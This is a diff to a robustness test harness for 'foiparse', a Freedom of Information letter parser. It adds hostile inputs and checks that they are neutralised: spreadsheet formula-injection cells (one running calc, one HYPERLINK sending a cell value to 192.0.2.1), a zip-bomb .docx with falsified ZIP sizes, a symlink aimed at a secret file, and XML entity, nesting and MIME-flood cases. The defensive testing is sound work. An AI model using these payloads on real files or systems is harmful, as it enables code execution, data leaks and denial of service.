@@ -45,6 +45,7 @@ class Kind:
     unprivileged: bool = False  # run without root's power to read anything (setpriv), as a user would
     stdin: bytes = b""  # what the command reads on standard input
     after: Callable[[Path], str | None] | None = None  # a check once it ran: what is wrong, or None
+    prefix: tuple[str, ...] = ()  # a command the run goes through (a lower ulimit, say)
 
     def command(self, path: Path) -> list[str]:
         """The arguments after ``foiparse``: the options and the path, or the template filled in."""
@@ -206,6 +207,365 @@ def _letter() -> bytes:
     return LETTER.read_bytes()
 
 
+def _ingest_args(db: str = "foi.sqlite") -> tuple[str, ...]:
+    return ("ingest", "-q", "{path}/in", "--db", "{path}/" + db)
+
+
+def _sql(db: Path, query: str, params: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
+    import sqlite3
+
+    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
+    try:
+        return conn.execute(query, params).fetchall()
+    finally:
+        conn.close()
+
+
+def _checked(check: Callable[[Path], str | None]) -> Callable[[Path], str | None]:
+    """A check after the run that reports a database it cannot read instead of raising."""
+
+    def run(path: Path) -> str | None:
+        import sqlite3
+
+        try:
+            return check(path)
+        except sqlite3.Error as exc:
+            return f"cannot check the database: {exc}"
+
+    return run
+
+
+def _old_database(path: Path) -> None:
+    """A letter recorded by foiparse 0.1.0 (schema 1) as skipped, unchanged on disk since."""
+    import hashlib
+    import sqlite3
+
+    (path / "in").mkdir(parents=True)
+    letter = path / "in" / "letter.txt"
+    letter.write_bytes(_letter())
+    stat = letter.stat()
+    with sqlite3.connect(path / "foi.sqlite") as conn:
+        conn.executescript(
+            "CREATE TABLE documents (id INTEGER PRIMARY KEY, path TEXT NOT NULL UNIQUE, sha256 TEXT, size INTEGER,"
+            " mtime_ns INTEGER, parser_version TEXT NOT NULL, format TEXT, status TEXT NOT NULL, error_class TEXT,"
+            " error TEXT, authority TEXT, reference TEXT, date TEXT, outcome TEXT, legislation TEXT, request TEXT,"
+            " pages INTEGER, seconds REAL, json TEXT, parent TEXT);"
+            "CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT); INSERT INTO meta VALUES ('schema_version', '1');"
+        )
+        conn.execute(
+            "INSERT INTO documents (path, sha256, size, mtime_ns, parser_version, status, error_class, error)"
+            " VALUES (?, ?, ?, ?, '0.1.0', 'skipped', 'UnsupportedFormatError', 'not read by this version')",
+            (str(letter.resolve()), hashlib.sha256(_letter()).hexdigest(), stat.st_size, stat.st_mtime_ns),
+        )
+    conn.close()
+
+
+@_checked
+def _reparsed(path: Path) -> str | None:
+    rows = _sql(path / "foi.sqlite", "SELECT status, parser_version, json IS NOT NULL FROM documents")
+    return None if len(rows) == 1 and rows[0][0] == "ok" and rows[0][2] else f"not parsed again: {rows}"
+
+
+_ATTACHED = "FOI-2024-0588-response.pdf"
+
+
+def _attachment_twin(path: Path) -> None:
+    """An e-mail with a PDF attached, beside a real file named EMAIL#ATTACHMENT."""
+    from email.message import EmailMessage
+
+    (path / "in").mkdir(parents=True)
+    message = EmailMessage()
+    message["From"] = "FOI Team <foi@harbury.gov.uk>"
+    message["To"] = "requester@example.org"
+    message["Subject"] = "RE: Freedom of Information request FOI-2024-0588"
+    message.set_content(_letter().decode("utf-8"))
+    pdf = _text_pdf(["Dear Ms Okoro,", "The Council recorded 49 incidents in 2023."])
+    message.add_attachment(pdf, maintype="application", subtype="pdf", filename=_ATTACHED)
+    (path / "in" / "reply.eml").write_bytes(bytes(message))
+    (path / "in" / f"reply.eml#{_ATTACHED}").write_bytes(_text_pdf(["Dear Sir,", "We hold 12 records."]))
+    (path / "in" / "z-after.txt").write_bytes(_letter())
+
+
+@_checked
+def _both_rows(path: Path) -> str | None:
+    twin = str((path / "in" / f"reply.eml#{_ATTACHED}").resolve())
+    rows = _sql(path / "foi.sqlite", "SELECT attachment IS NULL, status FROM documents WHERE path = ?", (twin,))
+    total = _sql(path / "foi.sqlite", "SELECT count(*) FROM documents")[0][0]
+    return None if sorted(rows) == [(0, "ok"), (1, "ok")] and total == 4 else f"rows {rows}, {total} in all"
+
+
+def _many_letters(path: Path) -> None:
+    (path / "in").mkdir(parents=True)
+    for i in range(300):
+        (path / "in" / f"{i:03d}.txt").write_bytes(_letter() + f"\nOur ref: FTS-{i:05d}\n".encode())
+
+
+@_checked
+def _all_indexed(path: Path) -> str | None:
+    indexed = _sql(path / "foi.sqlite", "SELECT count(*) FROM document_text")[0][0]
+    return None if indexed == 300 else f"{indexed} of 300 documents in the text index"
+
+
+def _link_out(path: Path) -> None:
+    (path / "outside").mkdir(parents=True)
+    (path / "outside" / "secret.txt").write_bytes(_letter() + b"\nThe password is SECRETWORD.\n")
+    (path / "in").mkdir()
+    (path / "in" / "real.txt").write_bytes(_letter())
+    os.symlink("../outside/secret.txt", path / "in" / "letter.txt")
+
+
+@_checked
+def _link_not_read(path: Path) -> str | None:
+    db = path / "foi.sqlite"
+    link = str((path / "in").resolve() / "letter.txt")
+    rows = _sql(db, "SELECT status, json IS NULL FROM documents WHERE path = ?", (link,))
+    found = _sql(db, "SELECT count(*) FROM document_text WHERE document_text MATCH 'SECRETWORD'")[0][0]
+    return None if rows == [("skipped", 1)] and found == 0 else f"link recorded as {rows}, {found} in the index"
+
+
+def _foreign_db(path: Path) -> None:
+    import sqlite3
+
+    (path / "in").mkdir(parents=True)
+    (path / "in" / "letter.txt").write_bytes(_letter())
+    with sqlite3.connect(path / "theirs.sqlite") as conn:
+        conn.executescript(
+            "CREATE TABLE documents (id INTEGER PRIMARY KEY, title TEXT); INSERT INTO documents VALUES (1, 'mine');"
+        )
+    conn.close()
+    (path / "theirs.copy").write_bytes((path / "theirs.sqlite").read_bytes())
+
+
+def _left_alone(path: Path) -> str | None:
+    same = (path / "theirs.sqlite").read_bytes() == (path / "theirs.copy").read_bytes()
+    return None if same else "another program's database was changed"
+
+
+FORMULA_LETTER = """<html><body><p>Dear Ms Okoro,</p><p>Leicester City Council holds the following.</p>
+<table><tr><th>=cmd|' /C calc'!A0</th><th>Count</th><th>Note</th></tr>
+<tr><td>=HYPERLINK("http://192.0.2.1/?q="&amp;A1,"click")</td><td>-3</td><td>+cmd|' /C calc'!A0</td></tr>
+<tr><td>@SUM(1+1)*cmd|' /C calc'!A0</td><td>-1.5</td><td>\t=1+1</td></tr>
+<tr><td>-1+1</td><td>12</td><td>plain</td></tr></table><p>Yours sincerely</p></body></html>"""
+
+
+def _formula_db(path: Path) -> None:
+    """Two letters whose table cells (and a header) start like spreadsheet formulas, ingested."""
+    from foiparse.batch import ingest
+
+    (path / "in").mkdir(parents=True)
+    (path / "in" / "a.html").write_text(FORMULA_LETTER, encoding="utf-8")
+    (path / "in" / "b.html").write_text(FORMULA_LETTER.replace("12", "13"), encoding="utf-8")
+    ingest([path / "in"], path / "foi.sqlite", jobs=1, progress=False)
+    (path / "foi.copy").write_bytes((path / "foi.sqlite").read_bytes())
+
+
+def _db_intact(path: Path) -> str | None:
+    same = (path / "foi.sqlite").read_bytes() == (path / "foi.copy").read_bytes()
+    return None if same else "the database was written over"
+
+
+def _no_live_formulas(path: Path) -> str | None:
+    import csv
+
+    files = sorted((path / "csv").rglob("*.csv"))
+    if len(files) != 3:
+        return f"expected two tables and one combined CSV, found {[f.name for f in files]}"
+    for file in files:
+        with open(file, newline="", encoding="utf-8") as fh:
+            cells = [cell for row in csv.reader(fh) for cell in row]
+        live = [c for c in cells if c.lstrip()[:1] in ("=", "+", "@") or c[:1] in ("\t", "\r")]
+        live += [c for c in cells if c.startswith("-") and c not in ("-3", "-1.5")]
+        if live or "-3" not in cells:
+            return f"{file.name}: formulas left live {live[:3]}, or a number quoted"
+    return None
+
+
+def _letter_intact(path: Path) -> str | None:
+    return None if path.read_bytes() == _letter() else "the input was written over"
+
+
+def _mkdir(path: Path) -> None:
+    path.mkdir()
+
+
+@_checked
+def _letter_ingested(path: Path) -> str | None:
+    rows: dict[object, object] = {
+        row[0]: row[1] for row in _sql(path / "foi.sqlite", "SELECT path, status FROM documents")
+    }
+    if rows.get(str(LETTER)) != "ok":
+        return f"the good path beside it was not ingested: {rows}"
+    return None if rows.get("/no/such\\x00dir/letter.txt") == "failed" else f"the NUL path was not recorded: {rows}"
+
+
+def _response_json(change: Callable[[dict[str, object]], None]) -> Callable[[Path], None]:
+    def write(path: Path) -> None:
+        import orjson
+
+        from foiparse import parse
+        from foiparse.serialize import to_dict
+
+        obj = to_dict(parse(LETTER))
+        change(obj)
+        path.write_bytes(orjson.dumps(obj))
+
+    return write
+
+
+def _link_to_dev_zero(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def _source_encoding(encoding: str) -> Callable[[dict[str, object]], None]:
+    def change(obj: dict[str, object]) -> None:
+        source = obj["source"]
+        assert isinstance(source, dict)
+        source["encoding"] = encoding
+
+    return change
+
+
+_MANY = 12  # letters in the folder ingested with more workers than open files allow
+
+
+def _letters(path: Path) -> None:
+    (path / "in").mkdir(parents=True)
+    for number in range(_MANY):
+        (path / "in" / f"many-jobs-letter-{number}.txt").write_bytes(LETTER.read_bytes())
+
+
+@_checked
+def _every_letter_ingested(path: Path) -> str | None:
+    rows = _sql(path / "foi.sqlite", "SELECT status, count(*) FROM documents GROUP BY status")
+    return None if rows == [("ok", _MANY)] else f"not every letter was ingested: {rows}"
+
+
+def _pdf_with_runs(runs: bytes) -> bytes:
+    """A one-page letter in Helvetica with these extra text objects drawn on it."""
+    content = (
+        b"BT /F1 11 Tf 72 770 Td (Dear Ms Okoro,) Tj ET "
+        b"BT /F1 11 Tf 72 740 Td (The Council recorded 49 incidents in 2023.) Tj ET " + runs
+    )
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    return _minimal_pdf(objects)
+
+
+_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+
+
+def _word(body: str, main: str = _WORD_MAIN, prolog: str = "") -> bytes:
+    """A minimal .docx package whose w:body holds ``body`` (WordprocessingML)."""
+    return _zip(
+        {
+            "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
+            '/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
+            'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
+            "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
+            '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
+            "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document xmlns:w="http://schemas'
+            f'.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>',
+        }
+    )
+
+
+def _para(text: str) -> str:
+    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
+
+
+def _entity_docx(path: Path) -> None:
+    """A folder with a .docx whose runs hold an unexpanded entity, a comment and ``&amp;`` before more text."""
+    path.mkdir()
+    (path / "letter.docx").write_bytes(
+        _word(
+            _para("The &co; authority <!-- x -->holds 12 files.") + _para("AT&amp;T holds 5."),
+            prolog='<!DOCTYPE w:document [<!ENTITY co "Council">]>',
+        )
+    )
+
+
+def _entity_text_kept(path: Path) -> str | None:
+    out = path / "letter.json"
+    text = out.read_text(encoding="utf-8") if out.exists() else ""
+    if "holds 12 files." not in text or "AT&T holds 5." not in text:
+        return "the text after an entity, a comment or &amp; in a run was lost"
+    return "the entity was expanded" if "Council" in text else None
+
+
+def _lying_docx(path: Path) -> None:
+    """A .docx whose document.xml says 1 KB in its ZIP headers and inflates to 300 MB (a comment of spaces)."""
+    import struct
+    import zipfile
+
+    small = io.BytesIO(_word(_para("Dear Sir,")))
+    buf = io.BytesIO()
+    with zipfile.ZipFile(small) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            body = src.read(info)
+            if info.filename != "word/document.xml":
+                dst.writestr(info.filename, body)
+                continue
+            head, _, tail = body.partition(b"<w:body>")
+            with dst.open(info.filename, "w") as out:
+                out.write(head + b"<w:body><!-- ")
+                for _ in range(300):
+                    out.write(b" " * (1024 * 1024))
+                out.write(b" -->" + tail)
+    data = bytearray(buf.getvalue())
+    for signature, size_at, name_length_at, header in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
+        at = data.find(signature)
+        while at != -1:
+            length = struct.unpack_from("<H", data, at + name_length_at)[0]
+            if data[at + header : at + header + length] == b"word/document.xml":
+                struct.pack_into("<I", data, at + size_at, 1024)
+            at = data.find(signature, at + 4)
+    path.write_bytes(bytes(data))
+
+
+def _unclosed_formatting(tags: int, blocks: int) -> bytes:
+    """Formatting elements never closed, then paragraphs: the parser re-creates every one in each paragraph."""
+    return b"<html><body><p>" + b"".join(b"<b id=%d>" % i for i in range(tags)) + b"<p>x" * blocks
+
+
+def _reads_as(name: str, wanted: str) -> Callable[[Path], str | None]:
+    """A check that the JSON written for ``name`` holds ``wanted`` and no NUL."""
+
+    def check(path: Path) -> str | None:
+        out = path / (Path(name).stem + ".json")
+        text = out.read_text(encoding="utf-8") if out.exists() else ""
+        if "\\u0000" in text or wanted not in text:
+            return f"{name} did not read as text: {text[:120]!r}"
+        return None
+
+    return check
+
+
+def _in_folder(name: str, data: bytes) -> Callable[[Path], None]:
+    def make(path: Path) -> None:
+        path.mkdir()
+        (path / name).write_bytes(data)
+
+    return make
+
+
+def _mail(headers: bytes, body: bytes) -> bytes:
+    return b"From: foi@council.gov.uk\r\nTo: a@example.org\r\nMIME-Version: 1.0\r\n" + headers + b"\r\n\r\n" + body
+
+
+def _same_name_attachments(count: int) -> bytes:
+    part = b'--BB\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="reply.pdf"\r\n\r\nJVBERi0=\r\n'
+    body = b"--BB\r\nContent-Type: text/plain\r\n\r\nDear Sir, see attached.\r\n" + part * count + b"--BB--\r\n"
+    return _mail(b"Subject: replies\r\nContent-Type: multipart/mixed; boundary=BB", body)
+
+
 KINDS: list[Kind] = [
     Kind("empty.txt", _write(b""), 4, "empty input"),
     Kind("whitespace-only.txt", _write(b" \t\r\n" * 1000), 4, "empty input"),
@@ -277,6 +637,185 @@ KINDS: list[Kind] = [
     Kind("symlink-loop.txt", _symlink_loop, 1, "symbolic links"),
     Kind("named-pipe.txt", _fifo, 1, "not a regular file"),
     Kind("unreadable.txt", _unreadable, 1, "permission denied", unprivileged=True),
+    Kind("upgrade-reparses", _old_database, 0, args=_ingest_args(), after=_reparsed),
+    Kind("attachment-name-collision", _attachment_twin, 0, args=_ingest_args(), after=_both_rows),
+    Kind("fts-index-streams", _many_letters, 0, seconds=60, args=_ingest_args(), after=_all_indexed),
+    Kind("symlink-out-of-tree", _link_out, 0, args=_ingest_args(), after=_link_not_read),
+    Kind(
+        "foreign-sqlite-db",
+        _foreign_db,
+        1,
+        "not a foiparse database",
+        args=_ingest_args("theirs.sqlite"),
+        after=_left_alone,
+    ),
+    Kind(
+        "output-is-input.txt",
+        _write(_letter()),
+        2,
+        "is also an input",
+        args=("{path}", "-o", "{path}"),
+        after=_letter_intact,
+    ),
+    Kind(
+        "export-onto-db",
+        _formula_db,
+        2,
+        "is also the database",
+        args=("export", "--db", "{path}/foi.sqlite", "--jsonl", "{path}/foi.sqlite"),
+        after=_db_intact,
+    ),
+    Kind(
+        "csv-formula-cells",
+        _formula_db,
+        0,
+        args=("export", "-q", "--db", "{path}/foi.sqlite", "--tables", "{path}/csv"),
+        after=_no_live_formulas,
+    ),
+    Kind("newline-\n-and-\x1b[1m-escape-in-name.txt", _write(b""), 4, "newline-\\x0a-and-\\x1b[1m-escape"),
+    Kind(
+        "nul-in-stdin-list",
+        _mkdir,
+        1,
+        "a NUL byte",
+        args=("ingest", "-q", "-", "--db", "{path}/foi.sqlite"),
+        stdin=b"/no/such\x00dir/letter.txt\n" + bytes(LETTER) + b"\n",
+        after=_letter_ingested,
+    ),
+    Kind(
+        "render-idna-encoding.json",
+        _response_json(_source_encoding("idna")),
+        14,
+        "$.source.encoding is 'idna'",
+        args=("render", "{path}"),
+    ),
+    Kind("timeout-nan.txt", _write(_letter()), 2, "not a number", args=("--timeout", "nan")),
+    Kind("max-memory-huge.txt", _write(_letter()), 2, "--max-memory", args=("--max-memory", "99999999999999")),
+    Kind(
+        "output-dev-full.txt",
+        _write(_letter()),
+        1,
+        "/dev/full: cannot write: No space left on device",
+        args=("{path}", "-o", "/dev/full"),
+    ),
+    Kind("validate-dev-zero", _link_to_dev_zero, 1, "not a regular file", args=("validate", "{path}")),
+    Kind("render-fifo.json", _fifo, 1, "not a regular file", args=("render", "{path}")),
+    Kind(
+        "validate-endless-stdin",
+        _response_json(lambda obj: None),
+        9,
+        "over the limit of 1,000,000 bytes",
+        args=("validate", "--max-bytes", "1000000", "-", "{path}"),  # the file is valid, standard input endless
+        stdin=b"[" * 3_000_000,
+    ),
+    Kind(
+        "validate-exit-code.json",
+        _response_json(lambda obj: obj.__setitem__("outcome", "maybe")),
+        14,
+        "invalid: $.outcome",
+        args=("validate", "{path}"),
+    ),
+    Kind("max-bytes-2GB.txt", _write(_letter()), 0, args=("--max-bytes", "2000000000")),
+    Kind(
+        "many-jobs",
+        _letters,
+        0,
+        args=("ingest", "-q", "{path}/in", "--db", "{path}/foi.sqlite", "-j", "150"),
+        prefix=("sh", "-c", 'ulimit -n 24 && exec "$@"', "sh"),  # room for a few workers, not 150
+        after=_every_letter_ingested,
+        seconds=60,
+    ),
+    Kind(
+        "provision-with-80000-groups.txt",
+        _write(b"Dear Sir,\n\nThe names are withheld under section 40" + b"(2)" * 80_000 + b" of the FOIA.\n"),
+        0,
+    ),
+    Kind(
+        "blank-paragraphs-4.8MB.txt",
+        _write(b"Dear Sir,\n" + b"\n\n" * 2_400_000 + b"We hold 12 files about section 40(2) of the FOIA.\n"),
+        0,
+    ),
+    Kind(
+        "pdf-runs-at-5e7.pdf",
+        _write(
+            _pdf_with_runs(
+                b"BT /F1 11 Tf -3000 755 Td (far left) Tj ET BT /F1 11 Tf 50000000 740 Td (far right) Tj ET "
+                b"BT /F1 11 Tf -50000000 700 Td (far left) Tj ET BT /F1 11 Tf 72 -50000000 Td (far below) Tj ET"
+            )
+        ),
+        0,
+    ),
+    Kind("docx-lying-zip-size.docx", _lying_docx, 9, "too large unpacked", seconds=20),
+    Kind(
+        "docx-entity-in-run",
+        _entity_docx,
+        0,
+        args=("{path}/letter.docx", "-o", "{path}/letter.json"),
+        after=_entity_text_kept,
+    ),
+    Kind(
+        "macro-enabled.docm",
+        _write(
+            _word(
+                _para("Dear Sir,") + _para("We hold 12 files."),
+                "application/vnd.ms-word.document.macroEnabled.main+xml",
+            )
+        ),
+        0,
+    ),
+    Kind("unclosed-formatting-tags.html", _write(_unclosed_formatting(2000, 4000)), 9, "too many HTML elements"),
+    Kind("unclosed-formatting-tags-56KB.html", _write(_unclosed_formatting(3000, 6000)), 9, "too many HTML elements"),
+    Kind(
+        "tables-nested-9000.html",
+        _write(b"<table><tr><td>x</td><td>" * 9000 + b"Deep" + b"</td></tr></table>" * 9000),
+        9,
+        "nested too deep",
+    ),
+    Kind(
+        "meta-charset-punycode.html",
+        _write(b"<meta charset=punycode><p>Dear Sir, we hold 12 files.</p><p>-" + b"abcdefghij" * 80_000 + b"</p>"),
+        0,
+    ),
+    Kind(
+        "punycode-email.eml",
+        _write(
+            _mail(
+                b"Subject: =?punycode?q?x-"
+                + b"abcdefghij" * 20_000
+                + b"?=\r\nContent-Type: text/plain; charset=punycode",
+                b"Dear Sir, we hold 12 files.\r\n-" + b"abcdefghij" * 80_000,
+            )
+        ),
+        0,
+    ),
+    Kind("30000-same-name-attachments.eml", _write(_same_name_attachments(30_000)), 9, "too many MIME parts"),
+    Kind(
+        "utf16-no-bom-odd-byte",
+        _in_folder("letter.txt", _letter().decode("utf-8").encode("utf-16-le") + b"\n"),
+        0,
+        args=("{path}/letter.txt", "-o", "{path}/letter.json"),
+        after=_reads_as("letter.txt", "Freedom of Information"),
+    ),
+    Kind(
+        "text-quoting-pdf-magic.txt",
+        _write(b'Dear Sir,\n\nThe file you sent begins "%PDF-1.4" and will not open.\n\n' + _letter()),
+        0,
+    ),
+    Kind(
+        "meta-charset-utf16",
+        _in_folder("page.html", b"<html><head><meta charset=utf16></head><body><p>Dear Sir, we hold 12 files.</p>"),
+        0,
+        args=("{path}/page.html", "-o", "{path}/page.json"),
+        after=_reads_as("page.html", "Dear Sir, we hold 12 files."),
+    ),
+    Kind(
+        "script-with-comparisons.html",
+        _write(
+            b"<html><head><script>" + b"if (a<b && c<d) { n = n<i ? 1 : 0 }\n" * 15_000 + b"</script></head>"
+            b"<body><p>Dear Sir, we hold 12 files.</p></body></html>"
+        ),
+        0,
+    ),
 ]
 
 
@@ -333,9 +872,9 @@ sys.stdout.write(done.stderr.decode("utf-8", "replace"))
 
 def run(kind: Kind, path: Path, foiparse: list[str]) -> Outcome:
     """Run ``foiparse`` on one input in a fresh process tree, measuring time and peak memory."""
-    prefix: list[str] = []
+    prefix: list[str] = list(kind.prefix)
     if kind.unprivileged and os.geteuid() == 0:  # root reads any file: drop that power for this run
-        prefix = ["setpriv", "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search"]
+        prefix += ["setpriv", "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search"]
     done = subprocess.run(
         [sys.executable, "-c", _MEASURE, *prefix, *foiparse, *kind.command(path)],
         input=kind.stdin,
